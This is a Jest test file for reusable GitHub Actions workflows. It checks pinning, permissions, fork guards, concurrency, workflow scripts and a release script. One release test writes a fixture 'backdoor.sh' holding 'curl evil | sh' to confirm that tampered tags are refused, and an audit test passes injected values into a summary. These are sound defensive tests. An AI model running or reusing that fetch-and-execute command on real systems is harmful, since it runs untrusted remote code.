/**
 * The contract of Keelson's reusable workflows, starters and templates (src/lib/workflows): GitHub's parser,
 * references that resolve for a caller in another repository, inputs, outputs, secrets, permissions, pins, no
 * expressions in scripts, GitHub's limits, the concurrency rules — and, for every check, a broken workflow that
 * it catches. The scripts inside the workflows run here with bash on the example service.
 */
import { describe, expect, it } from '@jest/globals';
import { execFileSync, spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  callTree,
  checkWorkflow,
  runStepOutputs,
  type ContractOptions,
} from '../src/lib/workflows/contract.js';
import { readActionMeta, readWorkflowMeta, type RawJob } from '../src/lib/workflows/load.js';
import { parsePermissionsCatalog, SCOPES } from '../src/lib/workflows/permissions.js';

const root = fileURLToPath(new URL('..', import.meta.url));
const example = join(root, 'examples/sample-service');
const permissions = parsePermissionsCatalog(readFileSync(join(root, 'actions/permissions.yml'), 'utf8'));
const base: ContractOptions = {
  keelsonRepository: 'keelson-dev/keelson',
  keelsonRoot: root,
  thirdPartyCatalog: join(root, 'test/data/third-party-actions'),
  pendingActions: join(root, 'test/data/pending-actions'),
  repoRoot: root,
  permissions,
};
const REUSABLE = ['service-ci', 'service-deploy', 'terraform', 'promote', 'service-pipeline'].map(
  (n) => `.github/workflows/${n}.yml`,
);
const yml = (dir: string) =>
  readdirSync(join(root, dir))
    .filter((f) => f.endsWith('.yml'))
    .map((f) => `${dir}/${f}`);
const STARTERS = [...yml('workflows'), ...yml('workflow-templates')];
const wf = (file: string) => readWorkflowMeta(join(root, file)).raw;

describe('every workflow keeps the contract', () => {
  it.each(REUSABLE)('%s (reusable; Keelson at @main)', async (file) => {
    expect(await checkWorkflow(join(root, file), { ...base, keelsonRef: 'main' })).toEqual([]);
  });

  it.each(STARTERS)('%s (a caller in the example service repository)', async (file) => {
    expect(await checkWorkflow(join(root, file), { ...base, repoRoot: example, keelsonRef: 'v1' })).toEqual(
      [],
    );
  });

  it.each(['ci', 'e2e-deploy', 'e2e-terraform', 'release'].map((n) => `.github/workflows/${n}.yml`))(
    "%s (Keelson's own)",
    async (file) => {
      expect(
        await checkWorkflow(join(root, file), {
          ...base,
          runStepPermissions: { publish: { contents: 'write' } },
        }),
      ).toEqual([]);
    },
  );

  it('reusable workflows reach actions through Keelson at one ref, never ./ (that is the caller’s checkout)', () => {
    for (const file of REUSABLE) {
      const text = readFileSync(join(root, file), 'utf8');
      expect(text).not.toMatch(/uses:\s+\.\/actions\//);
      const refs = new Set(
        [...text.matchAll(/keelson-dev\/keelson\/actions\/[\w-]+@(\S+)/g)].map((m) => m[1]),
      );
      expect([...refs].filter((r) => r !== 'main')).toEqual([]);
    }
  });

  it('starters call the reusable workflows at the major tag and map secrets explicitly', () => {
    for (const file of STARTERS) {
      const jobs = Object.values(wf(file).jobs ?? {});
      for (const j of jobs) {
        expect(j.uses).toMatch(/^keelson-dev\/keelson\/\.github\/workflows\/[\w-]+\.yml@v1$/);
        expect(j.secrets).not.toBe('inherit');
      }
    }
  });
});

describe('GitHub limits (written down in docs/workflows.md)', () => {
  it('nesting stays within 4 levels (GHES; GitHub.com allows 10) and 20 unique reusable workflows (GitHub.com: 50)', () => {
    for (const file of STARTERS) {
      const t = callTree(join(root, file), { ...base, repoRoot: example });
      expect(t.depth).toBeLessThanOrEqual(4);
      expect(t.unique.size).toBeLessThanOrEqual(20);
    }
    const pipeline = callTree(join(root, 'workflows/keelson-pipeline.yml'), { ...base, repoRoot: example });
    expect(pipeline.depth).toBe(3);
    expect([...pipeline.unique].map((f) => f.slice(root.length)).sort()).toEqual([
      '.github/workflows/service-ci.yml',
      '.github/workflows/service-deploy.yml',
      '.github/workflows/service-pipeline.yml',
    ]);
  });

  it('workflow_dispatch starters have at most 10 inputs (25 on GitHub.com since 2025; 10 on older GHES)', () => {
    for (const file of STARTERS) {
      const m = readWorkflowMeta(join(root, file));
      expect(m.dispatch?.size ?? 0).toBeLessThanOrEqual(10);
    }
  });
});

describe('concurrency: deploys and applies queue, never cancel', () => {
  it('service-deploy: one group per repository, service, environment and region; not cancelled', () => {
    const job = wf('.github/workflows/service-deploy.yml').jobs!.deploy!;
    expect(job.concurrency).toEqual({
      group:
        'keelson-deploy-${{ github.repository }}-${{ inputs.service }}-${{ inputs.environment }}-${{ inputs.aws-region }}',
      'cancel-in-progress': false,
    });
    expect(job.environment).toMatchObject({ name: '${{ inputs.environment }}' });
  });

  it('terraform: applies per root, plans per pull request and root, none cancelled; matrices never fail fast', () => {
    const jobs = wf('.github/workflows/terraform.yml').jobs!;
    expect(jobs.apply!.concurrency).toEqual({
      group: 'keelson-terraform-apply-${{ github.repository }}-${{ matrix.root.path }}',
      'cancel-in-progress': false,
    });
    expect((jobs.plan!.concurrency as { 'cancel-in-progress': boolean })['cancel-in-progress']).toBe(false);
    expect(jobs.plan!.strategy?.['fail-fast']).toBe(false);
    expect(jobs.apply!.strategy?.['fail-fast']).toBe(false);
    // The apply reads no plan file: it plans the merge commit again and applies only the reviewed hash.
    const apply = jobs.apply!.steps!.find((s) => s.uses?.includes('terraform-apply'));
    expect(apply?.with).not.toHaveProperty('plan-file');
  });

  it('production regions: one at a time, in order, the first failure stops the rest', () => {
    const jobs = wf('.github/workflows/service-pipeline.yml').jobs!;
    expect(jobs['production-regions']!.strategy).toEqual({
      'max-parallel': 1,
      'fail-fast': true,
      matrix: { region: '${{ fromJSON(needs.regions.outputs.others) }}' },
    });
    expect(jobs['production-regions']!.needs).toContain('production');
    expect(jobs.production!.needs).toContain('staging');
  });
});

describe('fork pull requests never get credentials', () => {
  const forkGuard = 'github.event.pull_request.head.repo.full_name == github.repository';
  it('service-ci pushes (and so assumes a role) only outside forks, and refuses pull_request_target', () => {
    const build = wf('.github/workflows/service-ci.yml').jobs!.build!;
    const mode = build.steps!.find((s) => s.id === 'mode')!;
    expect(mode.env?.FORK).toContain('head.repo.full_name != github.repository');
    for (const s of build.steps!.filter((x) => x.uses?.startsWith('aws-actions/') || x.id === 'push'))
      expect(s.if).toBe("steps.mode.outputs.push == 'true'");
    const test = wf('.github/workflows/service-ci.yml').jobs!.test!;
    expect(test.steps![0]).toMatchObject({ if: "github.event_name == 'pull_request_target'" });
  });

  it('terraform plans only for pull requests from the repository itself', () => {
    expect(wf('.github/workflows/terraform.yml').jobs!.plan!.if).toContain(forkGuard);
  });

  it('the push decision, run with bash', () => {
    const script = wf('.github/workflows/service-ci.yml').jobs!.build!.steps!.find(
      (s) => s.id === 'mode',
    )!.run!;
    const decide = (EVENT: string, FORK: string, PUSH_PRS: string) =>
      runScript(script, { EVENT, FORK, PUSH_PRS }).outputs.push;
    expect(decide('push', 'false', 'false')).toBe('true');
    expect(decide('pull_request', 'false', 'false')).toBe('false');
    expect(decide('pull_request', 'false', 'true')).toBe('true');
    expect(decide('pull_request', 'true', 'true')).toBe('false');
  });
});

/** Runs a workflow's `run:` script with bash -e (as GitHub does) and returns what it wrote to GITHUB_OUTPUT. */
function runScript(script: string, env: Record<string, string>, cwd = root) {
  const dir = mkdtempSync(join(tmpdir(), 'keelson-wf-'));
  const out = join(dir, 'output');
  writeFileSync(out, '');
  const r = spawnSync('bash', ['--noprofile', '--norc', '-e', '-o', 'pipefail', '-c', script], {
    cwd,
    env: { PATH: process.env.PATH, GITHUB_OUTPUT: out, RUNNER_TEMP: dir, ...env },
    encoding: 'utf8',
  });
  const outputs: Record<string, string> = {};
  for (const line of readFileSync(out, 'utf8').split('\n')) {
    const eq = line.indexOf('=');
    if (eq > 0) outputs[line.slice(0, eq)] = line.slice(eq + 1);
  }
  rmSync(dir, { recursive: true, force: true });
  return { status: r.status, stdout: r.stdout, outputs };
}

describe('the scripts inside the workflows', () => {
  it('regions: primary first, the rest in order as JSON; bad and repeated regions are one error each', () => {
    const script = wf('.github/workflows/service-pipeline.yml').jobs!.regions!.steps![0]!.run!;
    expect(runScript(script, { REGIONS: 'us-east-1, us-west-2,eu-west-1' }).outputs).toEqual({
      primary: 'us-east-1',
      others: '["us-west-2","eu-west-1"]',
    });
    expect(runScript(script, { REGIONS: '' }).outputs).toEqual({ primary: '', others: '[]' });
    const bad = runScript(script, { REGIONS: 'us-east-1,nope' });
    expect(bad.status).toBe(1);
    expect(bad.stdout.trim()).toBe(
      "::error::Input 'regions' has 'nope', which is not an AWS region (expected a comma-separated list such as us-east-1,us-west-2).",
    );
    expect(runScript(script, { REGIONS: 'us-east-1,us-east-1' }).stdout.trim()).toBe(
      "::error::Input 'regions' names us-east-1 twice.",
    );
  });

  it('terraform roots: the example service’s environments, one per folder; no match and escapes are errors', () => {
    const script = wf('.github/workflows/terraform.yml').jobs!.roots!.steps![1]!.run!;
    const found = runScript(script, { ROOTS: 'terraform/environments/*' }, example);
    expect(JSON.parse(found.outputs.roots!)).toEqual([
      { path: 'terraform/environments/production', environment: 'production' },
      { path: 'terraform/environments/staging', environment: 'staging' },
    ]);
    const none = runScript(script, { ROOTS: 'infra/*' }, example);
    expect(none.status).toBe(1);
    expect(none.stdout.trim()).toBe(
      "::error::Input 'roots' line 'infra/*' matches no directory with .tf files.",
    );
    expect(runScript(script, { ROOTS: '../*' }, example).stdout.trim()).toBe(
      "::error::Input 'roots' has '../*': roots are relative to the repository, without '..'.",
    );
    expect(runScript(script, { ROOTS: '' }, example).stdout.trim()).toBe(
      "::error::Input 'roots' is empty: name at least one root module directory.",
    );
  });

  it('promote: what runs in `from`, or the digest given in its repository; a default tag per environment', () => {
    const script = wf('.github/workflows/promote.yml').jobs!.resolve!.steps![1]!.run!;
    const running = `123456789012.dkr.ecr.eu-west-1.amazonaws.com/web@sha256:${'a'.repeat(64)}`;
    expect(
      runScript(script, { FROM: 'staging', TO: 'production', DIGEST: '', RUNNING: running }).outputs,
    ).toEqual({
      image: running,
      digest: `sha256:${'a'.repeat(64)}`,
      tag: 'production-aaaaaaaaaaaa',
    });
    const given = runScript(script, {
      FROM: 'staging',
      TO: 'production',
      DIGEST: `sha256:${'b'.repeat(64)}`,
      RUNNING: running,
    });
    expect(given.outputs.image).toBe(
      `123456789012.dkr.ecr.eu-west-1.amazonaws.com/web@sha256:${'b'.repeat(64)}`,
    );
    expect(runScript(script, { FROM: 'prod', TO: 'prod', DIGEST: '', RUNNING: running }).stdout.trim()).toBe(
      "::error::Inputs 'from' and 'to' name the same environment: promote from one environment to another.",
    );
    expect(runScript(script, { FROM: 'a', TO: 'b', DIGEST: 'latest', RUNNING: running }).stdout.trim()).toBe(
      "::error::Input 'digest' is not a digest (expected sha256: and 64 hex digits).",
    );
  });

  it('promote audit: every value is inert in the summary', () => {
    const step = wf('.github/workflows/promote.yml').jobs!.audit!.steps![0]!;
    const dir = mkdtempSync(join(tmpdir(), 'keelson-audit-'));
    const summary = join(dir, 'summary');
    const r = runScript(step.run!, {
      GITHUB_STEP_SUMMARY: summary,
      SERVICE: 'web`| injected',
      FROM: 'staging',
      TO: 'production\n::add-mask::x',
      ACTOR: 'alice',
      TRIGGERED_BY: 'bob',
      DIGEST: `sha256:${'a'.repeat(64)}`,
      DEPLOY: 'failure',
      RESOLVE: 'success',
      PROMOTE: 'success',
    });
    const text = readFileSync(summary, 'utf8');
    rmSync(dir, { recursive: true, force: true });
    expect(text).toContain('### Promotion of `web injected`: `staging` → `production ::add-mask::x`');
    expect(text).toContain('| requested by | `bob` (run by `alice`) |');
    expect(r.status).toBe(1);
    expect(r.stdout.trim()).toBe(
      '::error::The promotion did not complete (resolve success, promote success, deploy failure); see the summary.',
    );
  });
});

describe('the starters work on the example service unchanged', () => {
  const starter = wf('workflows/keelson-pipeline.yml').jobs!.pipeline!.with as Record<string, string>;

  it('what the pipeline starter names exists in examples/sample-service', () => {
    for (const env of ['staging', 'production'])
      expect(existsSync(join(example, starter['helm-chart']!, `values-${env}.yaml`))).toBe(true);
    expect(existsSync(join(example, starter['health-checks']!))).toBe(true);
    expect(existsSync(join(example, 'Dockerfile'))).toBe(true);
    const pkg = JSON.parse(readFileSync(join(example, 'package.json'), 'utf8')) as {
      scripts: Record<string, string>;
    };
    expect(starter['test-command']).toBe('npm test');
    expect(starter['integration-command']).toBe('npm run test:integration');
    expect(pkg.scripts['test:integration']).toContain('--test-reporter=junit');
    for (const env of ['staging', 'production'])
      expect(existsSync(join(example, 'kustomize/overlays', env, 'kustomization.yaml'))).toBe(true);
  });

  it('the chart renders with helm for each environment, and the image pin finds its container', async () => {
    const helm = join(root, '.cache/bin/helm');
    const { loadManifests, pinImages, containersOf } = await import('../src/lib/k8s/manifests.js');
    for (const [env, replicas] of [
      ['staging', 2],
      ['production', 4],
    ] as const) {
      const objects = await loadManifests({
        manifests: [],
        helmChart: starter['helm-chart'],
        helmValues: [`${starter['helm-chart']}/values-${env}.yaml`],
        helmRelease: starter.service,
        namespace: 'sample-service',
        cwd: example,
        helm,
      });
      const image = `123456789012.dkr.ecr.eu-west-1.amazonaws.com/sample-service@sha256:${'c'.repeat(64)}`;
      pinImages(objects, [{ name: starter['image-name']!, ref: image }]);
      const dep = objects.find((o) => o.kind === 'Deployment');
      expect(dep?.metadata?.name).toBe('sample-service');
      expect((dep?.spec as { replicas: number }).replicas).toBe(replicas);
      expect(containersOf(dep!).map((c) => c.image)).toEqual([image]);
    }
  });

  it('the kustomize overlays render with kubectl', async () => {
    const { loadManifests } = await import('../src/lib/k8s/manifests.js');
    const objects = await loadManifests({
      manifests: [],
      kustomize: 'kustomize/overlays/production',
      helmValues: [],
      namespace: 'sample-service',
      cwd: example,
      kubectl: join(root, '.cache/bin/kubectl'),
    });
    const dep = objects.find((o) => o.kind === 'Deployment');
    expect((dep?.spec as { replicas: number }).replicas).toBe(4);
    expect(dep?.metadata?.labels).toMatchObject({ environment: 'production' });
  });

  it('each terraform root validates with the real terraform (terraform_data only, offline)', () => {
    const which = spawnSync('terraform', ['version'], { encoding: 'utf8' });
    expect(which.status).toBe(0);
    for (const env of ['staging', 'production']) {
      const dir = mkdtempSync(join(tmpdir(), 'keelson-tf-'));
      const cwd = join(dir, 'repo');
      execFileSync('cp', ['-r', example, cwd]);
      const tf = (...args: string[]) =>
        execFileSync('terraform', [`-chdir=terraform/environments/${env}`, ...args], {
          cwd,
          encoding: 'utf8',
          env: { PATH: process.env.PATH, HOME: dir, TF_IN_AUTOMATION: '1', CHECKPOINT_DISABLE: '1' },
        });
      tf('init', '-input=false', '-backend=false');
      expect(tf('validate', '-no-color')).toContain('The configuration is valid.');
      expect(tf('plan', '-input=false', '-no-color')).toContain('Plan: 1 to add, 0 to change, 0 to destroy.');
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('the checks catch what they name', () => {
  const dir = mkdtempSync(join(tmpdir(), 'keelson-contract-'));
  mkdirSync(join(dir, '.github/workflows'), { recursive: true });
  const check = async (jobs: Record<string, RawJob>, extra: Record<string, unknown> = {}) => {
    const file = join(dir, '.github/workflows/w.yml');
    writeFileSync(
      file,
      JSON.stringify({
        name: 'w',
        on: { workflow_call: { inputs: { x: { type: 'string', default: '' } } } },
        permissions: {},
        jobs,
        ...extra,
      }),
    );
    return (await checkWorkflow(file, { ...base, repoRoot: dir, keelsonRef: 'main' })).map(
      (f) => `${f.where}: ${f.message}`,
    );
  };
  const job = (
    steps: RawJob['steps'],
    p: Record<string, string> = { contents: 'read' },
    more: Partial<RawJob> = {},
  ): RawJob => ({
    'runs-on': 'ubuntu-latest',
    permissions: p,
    steps,
    ...more,
  });
  const checkout = { uses: 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1' };

  it('a clean job has no finding (the fixtures below differ from it by one line each)', async () => {
    // JSON has no comments: the version comment check needs the YAML text, so write it by hand once.
    const file = join(dir, '.github/workflows/clean.yml');
    writeFileSync(
      file,
      [
        'on: { workflow_call: {} }',
        'permissions: {}',
        'jobs:',
        '  a:',
        '    runs-on: ubuntu-latest',
        '    permissions: { contents: read }',
        '    steps:',
        '      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1',
        '      - id: t',
        '        uses: keelson-dev/keelson/actions/test@main',
        '        with: { command: npm test }',
        '      - env: { N: "${{ steps.t.outputs.total }}" }',
        '        run: echo "$N"',
      ].join('\n'),
    );
    expect(await checkWorkflow(file, { ...base, repoRoot: dir, keelsonRef: 'main' })).toEqual([]);
  });

  it('GitHub’s parser runs: a schema error is reported', async () => {
    expect(
      await check({
        a: {
          ...job([{ run: 'true' }]),
          'runs-on': undefined as unknown as string,
          'timeout-minutes': 'soon',
        } as RawJob,
      }),
    ).toEqual(expect.arrayContaining([expect.stringMatching(/^GitHub parser: /)]));
  });

  it('uses that do not resolve, unpinned outside actions, ./ actions, another Keelson ref', async () => {
    const r = await check({
      a: job([
        { uses: 'keelson-dev/keelson/actions/nope@main' },
        { uses: 'actions/checkout@v4' },
        { uses: 'keelson-dev/keelson/actions/test@v1' },
      ]),
    });
    expect(r).toEqual(
      expect.arrayContaining([
        "jobs.a.steps[0]: 'keelson-dev/keelson/actions/nope@main': actions/nope/action.yml does not exist in Keelson",
        "jobs.a.steps[1]: 'actions/checkout@v4': no stored action.yml for actions/checkout at v4",
        "jobs.a.steps[2]: 'keelson-dev/keelson/actions/test@v1' uses Keelson at 'v1'; every Keelson reference must be '@main' (one release)",
      ]),
    );
  });

  it('with: keys that are not inputs, required inputs not given', async () => {
    const r = await check({
      a: job([{ uses: 'keelson-dev/keelson/actions/deployed-image@main', with: { environmnt: 'staging' } }], {
        deployments: 'read',
      }),
    });
    expect(r).toEqual([
      "jobs.a.steps[0]: with: 'environmnt' is not an input of actions/deployed-image/action.yml (inputs: environment, repository, required, github-token)",
      "jobs.a.steps[0]: required input 'environment' of actions/deployed-image/action.yml is not given",
    ]);
  });

  it('outputs that do not exist, steps not yet run, needs not listed, undeclared inputs and secrets', async () => {
    const r = await check({
      a: job(
        [
          { env: { A: '${{ steps.later.outputs.x }}' }, run: 'true' },
          { id: 't', uses: 'keelson-dev/keelson/actions/test@main' },
          {
            id: 'later',
            env: { B: '${{ steps.t.outputs.nothing }}', C: '${{ inputs.y }}', D: '${{ secrets.TOKEN }}' },
            run: 'echo "x=1" >> "$GITHUB_OUTPUT"',
          },
        ],
        { contents: 'read' },
        { outputs: { o: '${{ steps.later.outputs.x }}', p: '${{ steps.later.outputs.y }}' } },
      ),
      b: job([{ env: { E: '${{ needs.a.outputs.o }}' }, run: 'true' }]),
    });
    expect(r).toEqual(
      expect.arrayContaining([
        "jobs.a.steps[0]: steps.later is not a step before this one in job 'a'",
        "jobs.a.steps[later]: steps.t.outputs.nothing: step 't' has no output 'nothing' (it has: total, passed, failed, errors, skipped, flaky, duration-seconds)",
        'jobs.a.steps[later]: inputs.y is not a declared input',
        'jobs.a.steps[later]: secrets.TOKEN is not declared in on.workflow_call.secrets',
        "jobs.a.outputs: steps.later.outputs.y: step 'later' has no output 'y' (it has: x)",
        "jobs.b.steps[0]: needs.a: 'a' is not in this job's needs",
      ]),
    );
    expect(r.filter((l) => l.includes('steps.later.outputs.x'))).toEqual([]);
  });

  it('expressions inside run:, secrets: inherit, and a workflow output of a job that does not exist', async () => {
    const r = await check(
      {
        a: job([{ run: 'echo "${{ github.event.pull_request.title }}"' }]),
        c: { uses: './.github/workflows/clean.yml', secrets: 'inherit', permissions: { contents: 'read' } },
      },
      { on: { workflow_call: { outputs: { o: { value: '${{ jobs.zz.outputs.o }}' } } } } },
    );
    expect(r).toEqual(
      expect.arrayContaining([
        'jobs.a.steps[0]: has ${{ }} inside run: (pass values through env:)',
        "jobs.c: uses 'secrets: inherit'; map each secret explicitly",
        "on.workflow_call.outputs.o: jobs.zz: no job 'zz' in this workflow",
      ]),
    );
  });

  it('permissions: missing, more than the steps document, less than they require; a call that cannot start', async () => {
    const r = await check(
      {
        none: { 'runs-on': 'ubuntu-latest', steps: [{ run: 'true' }] },
        wide: job([checkout], { contents: 'write', issues: 'write' }),
        narrow: job(
          [
            checkout,
            { uses: 'keelson-dev/keelson/actions/deployed-image@main', with: { environment: 'staging' } },
          ],
          { contents: 'read' },
        ),
        call: { uses: './.github/workflows/clean.yml', permissions: {} },
      },
      { permissions: undefined },
    );
    expect(r).toEqual(
      expect.arrayContaining([
        'jobs.none: states no permissions: (neither the job nor the workflow says what its token may do)',
        'jobs.wide: grants contents: write, issues: write, which none of its steps documents it needs',
        'jobs.narrow: its steps need deployments: read but the job grants contents: read',
        'jobs.call: grants {} but .github/workflows/clean.yml asks for contents: read (the called job would not start)',
      ]),
    );
  });

  it('runStepOutputs reads names written to GITHUB_OUTPUT, and only those', () => {
    expect([
      ...runStepOutputs(
        'x=1\necho "a=$x" >> "$GITHUB_OUTPUT"\n{\n  echo "b=2"\n  echo c=3\n} >> "$GITHUB_OUTPUT"\necho d=4',
      ),
    ]).toEqual(['a', 'b', 'c']);
  });
});

describe('metadata the checks rely on', () => {
  it('actions/permissions.yml covers every Keelson action and every outside action the workflows use', () => {
    const names = readdirSync(join(root, 'actions')).filter((n) =>
      existsSync(join(root, 'actions', n, 'action.yml')),
    );
    for (const n of [...names, 'trivy-scan', 'migrate']) expect(permissions.has(n)).toBe(true);
  });

  it('the permission scopes are exactly those of GitHub’s workflow schema', () => {
    const schema = JSON.parse(
      readFileSync(join(root, 'node_modules/@actions/workflow-parser/dist/workflow-v1.0.min.json'), 'utf8'),
    ) as { definitions: Record<string, { mapping: { properties: Record<string, unknown> } }> };
    expect([...SCOPES].sort()).toEqual(
      Object.keys(schema.definitions['permissions-mapping']!.mapping.properties).sort(),
    );
  });

  it('pending action metadata is only for actions not yet on this branch (delete it when they land)', () => {
    const pending = join(root, 'test/data/pending-actions');
    for (const n of existsSync(pending) ? readdirSync(pending) : [])
      expect({ action: n, landed: existsSync(join(root, 'actions', n, 'action.yml')) }).toEqual({
        action: n,
        landed: false,
      });
  });

  it('canary: every deploy input that service-deploy does not pass is listed here with a reason', () => {
    const deploy = readActionMeta(join(root, 'actions/deploy/action.yml'), 'deploy');
    const passed = Object.keys(
      wf('.github/workflows/service-deploy.yml').jobs!.deploy!.steps!.find((s) => s.id === 'deploy')!.with ??
        {},
    );
    const notPassed: Record<string, string> = {
      kubeconfig: 'EKS only: cluster-name with OIDC credentials',
      context: 'EKS only',
      'helm-release': 'the service name',
      'wait-for-lock': 'the concurrency group serialises rollouts of one service and environment',
      'preview-url': 'the API server proxy reaches the preview Service',
      'live-url': 'the API server proxy reaches the live Service',
      'github-token': 'the default token records the Deployment',
    };
    const unexplained = [...deploy.inputs.keys()].filter((k) => !passed.includes(k) && !(k in notPassed));
    // When the canary inputs (issue 10: steps, router, step-duration, analysis-interval, failure-limit, action…)
    // land in the deploy action, this fails until service-deploy.yml passes them through or explains why not.
    expect(unexplained).toEqual([]);
  });
});

describe('scripts/release.mjs', () => {
  const sh = (cwd: string, cmd: string, ...args: string[]) =>
    spawnSync(cmd, args, {
      cwd,
      encoding: 'utf8',
      env: {
        ...process.env,
        GIT_AUTHOR_NAME: 't',
        GIT_AUTHOR_EMAIL: 't@x',
        GIT_COMMITTER_NAME: 't',
        GIT_COMMITTER_EMAIL: 't@x',
      },
    });
  const repo = () => {
    const dir = mkdtempSync(join(tmpdir(), 'keelson-release-'));
    mkdirSync(join(dir, '.github/workflows'), { recursive: true });
    mkdirSync(join(dir, 'scripts'));
    for (const f of ['service-deploy.yml', 'service-pipeline.yml'])
      writeFileSync(join(dir, '.github/workflows', f), readFileSync(join(root, '.github/workflows', f)));
    writeFileSync(join(dir, 'scripts/release.mjs'), readFileSync(join(root, 'scripts/release.mjs')));
    sh(dir, 'git', 'init', '-q', '-b', 'main');
    sh(dir, 'git', 'add', '.');
    sh(dir, 'git', 'commit', '-qm', 'main');
    sh(dir, 'git', 'update-ref', 'refs/remotes/origin/main', 'HEAD');
    return dir;
  };

  it('prepare pins every Keelson reference to the tag on a commit beside main; verify accepts exactly that', () => {
    const dir = repo();
    const prep = sh(dir, 'node', 'scripts/release.mjs', 'prepare', '1.2.3');
    expect(prep.status).toBe(0);
    expect(readFileSync(join(dir, '.github/workflows/service-deploy.yml'), 'utf8')).toContain(
      'actions/deploy@main',
    );
    const tagged = sh(dir, 'git', 'show', 'v1.2.3:.github/workflows/service-deploy.yml').stdout;
    expect(tagged).toContain('uses: keelson-dev/keelson/actions/deploy@v1.2.3');
    expect(tagged).not.toMatch(/keelson-dev\/keelson\/[^\s@]+@main/);
    expect(sh(dir, 'git', 'rev-parse', 'v1.2.3^{commit}^').stdout).toBe(
      sh(dir, 'git', 'rev-parse', 'main').stdout,
    );
    const ok = sh(dir, 'node', 'scripts/release.mjs', 'verify', 'v1.2.3');
    expect(ok.stderr).toBe('');
    expect(ok.status).toBe(0);
    rmSync(dir, { recursive: true, force: true });
  });

  it('verify refuses a tag whose commit changes anything else, or whose parent is not on main', () => {
    const dir = repo();
    sh(dir, 'node', 'scripts/release.mjs', 'prepare', '1.2.3');
    sh(dir, 'git', 'checkout', '-q', 'v1.2.3');
    writeFileSync(join(dir, 'backdoor.sh'), 'curl evil | sh\n');
    sh(dir, 'git', 'add', '.');
    sh(dir, 'git', 'commit', '-qm', 'more');
    sh(dir, 'git', 'tag', 'v1.2.4');
    const bad = sh(dir, 'node', 'scripts/release.mjs', 'verify', 'v1.2.4');
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain('is not on main: release only what main has.');
    sh(dir, 'git', 'checkout', '-q', 'main');
    writeFileSync(join(dir, 'backdoor.sh'), 'curl evil | sh\n');
    sh(dir, 'git', 'add', '.');
    sh(dir, 'git', 'commit', '-qm', 'release with extra');
    sh(dir, 'git', 'tag', 'v1.2.5');
    sh(dir, 'git', 'update-ref', 'refs/remotes/origin/main', 'HEAD^');
    const extra = sh(dir, 'node', 'scripts/release.mjs', 'verify', 'v1.2.5');
    expect(extra.status).toBe(1);
    expect(extra.stderr).toContain('backdoor.sh changed (only workflow pins may)');
    expect(extra.stderr).toContain('still uses Keelson at @main');
    rmSync(dir, { recursive: true, force: true });
  });
});
